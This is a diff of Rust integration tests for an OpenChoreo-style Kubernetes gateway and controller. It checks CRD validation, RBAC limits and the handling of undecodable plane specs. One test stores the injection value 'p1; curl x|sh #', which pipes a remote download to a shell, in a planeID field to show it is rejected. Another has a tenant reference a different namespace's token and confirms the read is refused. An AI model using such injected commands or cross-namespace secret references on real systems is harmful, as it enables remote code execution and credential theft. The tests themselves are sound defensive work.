@@ -274,6 +274,27 @@ fn crds_install_and_every_example_applies() {
         err.contains("spec.gateway.ingress.external.name: Required value"),
         "{err}"
     );
+    // A planeID carries OpenChoreo's pattern on every kind: no shell command or terminal
+    // escape can be stored in one, to be printed later by status or check.
+    for kind in ["DataPlane", "WorkflowPlane", "ObservabilityPlane"] {
+        let out = c.kubectl_with_input(
+            &c.control,
+            &["apply", "-f", "-"],
+            Some(&format!(
+                "apiVersion: openchoreo.dev/v1alpha1\nkind: {kind}\nmetadata: {{name: bad-id, namespace: my-org}}\n\
+                 spec: {{planeID: 'p1; curl x|sh #', clusterAgent: {{clientCA: {{value: PEM}}}}}}\n"
+            )),
+        );
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(!out.status.success(), "{kind}: {err}");
+        assert!(
+            err.contains(
+                "spec.planeID: Invalid value: \"p1; curl x|sh #\": spec.planeID in body should match \
+                 '^[a-z0-9]([-a-z0-9]*[a-z0-9])?$'"
+            ),
+            "{kind}: {err}"
+        );
+    }
 }
 
 /// The whole agent-mode path on two API servers: the gateway (in the controller's
@@ -793,6 +814,22 @@ fn direct_mode_reports_connected() {
              publicVirtualHost: apps.example.com\n    organizationVirtualHost: apps.internal\n"
         ),
     );
+    // A tenant's DataPlane naming a Secret of another namespace (here a real, working
+    // token): never read, never sent to the tenant's server, refused with its own reason.
+    let victim = c.namespace("direct-victim");
+    c.apply(
+        &c.control,
+        &secret(&victim, "victim-token", "token", &token),
+    );
+    c.apply(
+        &c.control,
+        &format!(
+            "apiVersion: openchoreo.dev/v1alpha1\nkind: DataPlane\nmetadata: {{name: direct-foreign, namespace: {ns}}}\nspec:\n  \
+             kubernetesCluster:\n    server: {server}\n    tls:\n      ca: {{secretRef: {{name: remote-ca, key: ca.crt}}}}\n    \
+             auth:\n      bearerToken: {{secretRef: {{namespace: {victim}, name: victim-token, key: token}}}}\n  gateway:\n    \
+             publicVirtualHost: apps.example.com\n    organizationVirtualHost: apps.internal\n"
+        ),
+    );
     let (_controller, _) = with_gateway_controller(c, &pki, &ns, "controller", &[]);
     let message = await_condition(
         c,
@@ -812,6 +849,22 @@ fn direct_mode_reports_connected() {
         "APIServerReachable",
     );
     assert!(message.contains(&server), "{message}");
+    let message = await_condition(
+        c,
+        &ns,
+        "dataplane/direct-foreign",
+        "Connected",
+        "False",
+        "SecretOutsideNamespace",
+    );
+    assert_eq!(
+        message,
+        format!(
+            "auth.bearerToken's secretKeyRef names a Secret of namespace {victim}, and a plane in \
+             namespace {ns} reads Secrets of its own namespace only: put Secret victim-token in {ns}, \
+             or register a cluster-scoped plane"
+        )
+    );
 
     let served = c.ok(&c.remote, &["api-versions"]);
     if !served.contains("gateway.networking.k8s.io/") {
@@ -1412,4 +1465,190 @@ fn openchoreo_current_shape_with_a_pinned_agent_certificate() {
         dp["status"]["agentConnection"]["connectedAgents"], 1,
         "{dp}"
     );
+}
+
+/// The gateway under RBAC shaped like OpenChoreo's chart grants its gateway (read the plane
+/// kinds; get and list Secrets, no watch; no Leases, no BuildPlanes): it serves a plane
+/// whose clientCA is inline, says once that it cannot keep a replica Lease, and runs on
+/// as one replica instead of failing.
+#[test]
+fn the_gateway_runs_under_openchoreo_chart_rbac() {
+    let c = clusters();
+    let ns = c.namespace("chart-rbac");
+    let account = "chart-gateway";
+    let role = format!("{account}-{ns}");
+    c.apply(
+        &c.control,
+        &format!(
+            "apiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: {account}, namespace: {ns}}}\n---\n\
+             apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {{name: {role}}}\nrules:\n\
+             - apiGroups: [openchoreo.dev]\n  resources: [dataplanes, clusterdataplanes, workflowplanes, \
+             clusterworkflowplanes, observabilityplanes, clusterobservabilityplanes]\n  verbs: [get, list, watch]\n\
+             - apiGroups: [\"\"]\n  resources: [secrets]\n  verbs: [get, list]\n---\n\
+             apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {{name: {role}}}\n\
+             roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {role}}}\n\
+             subjects: [{{kind: ServiceAccount, name: {account}, namespace: {ns}}}]\n"
+        ),
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let pki = Pki::new(dir.path());
+    let kubeconfig = service_account_kubeconfig(c, dir.path(), &ns, account);
+    let ca = pki.agent("agent");
+    c.apply(&c.control, &dataplane(&ns, "dp", ValueFrom::inline(&ca)));
+    let ports = Ports::new();
+    let mut gateway = Process::start(
+        "gateway",
+        dir.path(),
+        &gateway_command(&pki, &ports, &kubeconfig, &ns),
+    );
+    let _agent = start_agent(
+        &pki,
+        &ports,
+        "agent",
+        &format!("dp-{ns}"),
+        &c.kubeconfig_for(&c.remote),
+    );
+    let lease_refused = "the gateway may not write Leases here";
+    eventually(
+        "the agent connected, and the Lease refusal said",
+        WAIT,
+        || {
+            let log = gateway.log_text();
+            match (
+                log.contains("agent connected"),
+                log.matches(lease_refused).count(),
+            ) {
+                (true, 1) => Ok(()),
+                seen => Err(format!(
+                    "{seen:?}: {}",
+                    log.lines().last().unwrap_or_default()
+                )),
+            }
+        },
+    );
+    // Still running a renewal period later, and said it once.
+    assert_eq!(
+        gateway.exit_within(Duration::from_secs(6)),
+        None,
+        "{}",
+        gateway.log_text()
+    );
+    assert_eq!(gateway.log_text().matches(lease_refused).count(), 1);
+    c.ok(
+        &c.control,
+        &["delete", "clusterrolebinding,clusterrole", &role],
+    );
+}
+
+/// One CR planelink cannot read never takes the others down. On an API server whose
+/// only plane CRD is permissive (as another OpenChoreo version's may be: here the remote
+/// test server plays that control plane, with no other plane kinds installed), a DataPlane
+/// whose `gateway.ingress.external` lacks its `name` is reported on its own (a log line
+/// and a Warning Event naming the field, `Ready=False` with `SpecUndecodable`) while the
+/// good DataPlane beside it is served and reconciled, and every missing kind is skipped.
+#[test]
+fn one_undecodable_plane_never_takes_the_others_down() {
+    let c = clusters();
+    let ns = c.namespace("undecodable");
+    let cp = &c.remote;
+    c.apply(
+        cp,
+        "apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: {name: dataplanes.openchoreo.dev}\n\
+         spec:\n  group: openchoreo.dev\n  scope: Namespaced\n  names: {kind: DataPlane, plural: dataplanes, singular: dataplane, listKind: DataPlaneList}\n  \
+         versions:\n  - name: v1alpha1\n    served: true\n    storage: true\n    subresources: {status: {}}\n    \
+         schema:\n      openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}\n",
+    );
+    c.ok(
+        cp,
+        &[
+            "wait",
+            "--for=condition=Established",
+            "--timeout=30s",
+            "crd/dataplanes.openchoreo.dev",
+        ],
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let pki = Pki::new(dir.path());
+    let ca = pki.agent("agent");
+    c.apply(cp, &dataplane(&ns, "dp", ValueFrom::inline(&ca)));
+    c.apply(
+        cp,
+        &format!(
+            "apiVersion: openchoreo.dev/v1alpha1\nkind: DataPlane\nmetadata: {{name: bad, namespace: {ns}}}\n\
+             spec: {{planeID: bad, gateway: {{ingress: {{external: {{namespace: openchoreo-data-plane}}}}}}}}\n"
+        ),
+    );
+    let ports = Ports::new();
+    let remote_kubeconfig = c.kubeconfig_for(cp);
+    let mut args = controller_flags(&pki, &ports, &ns);
+    args.push("--with-gateway".into());
+    args.extend(gateway_flags(&pki, &ports, &remote_kubeconfig));
+    let controller = Process::start("controller", &pki.dir, &args);
+    let _agent = start_agent(
+        &pki,
+        &ports,
+        "agent",
+        &format!("dp-{ns}"),
+        &remote_kubeconfig,
+    );
+
+    let field = "spec.gateway.ingress.external: missing field `name`";
+    let condition_of = |name: &str, type_: &str| {
+        let object = c.get(cp, &ns, &format!("dataplane/{name}"))?;
+        condition(&object, type_)
+    };
+    // A CRD created moments ago answers its first lists slowly on a loaded machine
+    // (seconds, seen in the full suite): a longer bound than WAIT, not a longer sleep.
+    eventually(
+        "the good plane Connected and the bad one SpecUndecodable",
+        3 * WAIT,
+        || match (
+            condition_of("dp", "Connected"),
+            condition_of("bad", "Ready"),
+        ) {
+            (Some((good, _, _)), Some((bad, reason, message)))
+                if good == "True" && bad == "False" && reason == "SpecUndecodable" =>
+            {
+                Ok(message)
+            }
+            seen => Err(format!("{seen:?}")),
+        },
+    );
+    let (_, _, message) = condition_of("bad", "Ready").unwrap();
+    assert_eq!(
+        message,
+        format!("DataPlane {ns}/bad does not decode: {field}")
+    );
+    let events = c.ok(
+        cp,
+        &[
+            "get",
+            "events",
+            "-n",
+            &ns,
+            "--field-selector=reason=SpecUndecodable",
+            "-o",
+            "name",
+        ],
+    );
+    assert_eq!(events.lines().count(), 1, "{events}");
+    let log = controller.log_text();
+    let gateway_line = format!("DataPlane {ns}/bad does not decode: {field}: it is not served");
+    assert_eq!(log.matches(&gateway_line).count(), 1, "{log}");
+    // Leave the remote server without plane CRDs, as the other tests expect it.
+    drop(controller);
+    c.ok(
+        cp,
+        &[
+            "patch",
+            "dataplane",
+            "dp",
+            "-n",
+            &ns,
+            "--type=merge",
+            "-p",
+            r#"{"metadata":{"finalizers":null}}"#,
+        ],
+    );
+    c.ok(cp, &["delete", "crd", "dataplanes.openchoreo.dev"]);
 }
